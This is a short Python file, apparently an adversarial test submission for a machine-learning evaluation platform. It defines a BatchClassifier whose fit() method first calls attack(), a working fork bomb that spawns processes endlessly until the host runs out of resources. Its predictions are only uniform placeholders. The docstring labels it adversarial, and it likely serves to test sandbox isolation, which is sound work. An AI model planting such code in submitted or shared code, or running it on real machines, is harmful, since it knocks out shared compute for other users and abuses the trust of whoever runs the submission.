"""Adversarial: a fork bomb; every child keeps forking and never exits."""

import os
import time

import numpy as np


def attack():
    n = 0
    while True:
        try:
            pid = os.fork()
        except OSError:
            if n > 20:
                raise
            time.sleep(0.01)
            n += 1
            continue
        if pid == 0:  # children keep forking, then sleep forever
            try:
                while True:
                    os.fork()
            except OSError:
                while True:
                    time.sleep(60)


class BatchClassifier:
    def fit(self, gen_builder):
        attack()
        gen_train, _, n_train, _ = gen_builder.get_train_valid_generators(batch_size=64)
        self.n_classes = gen_builder.n_classes
        return self

    def predict_proba(self, X):
        p = np.full((len(X), self.n_classes), 1.0 / self.n_classes)
        return p
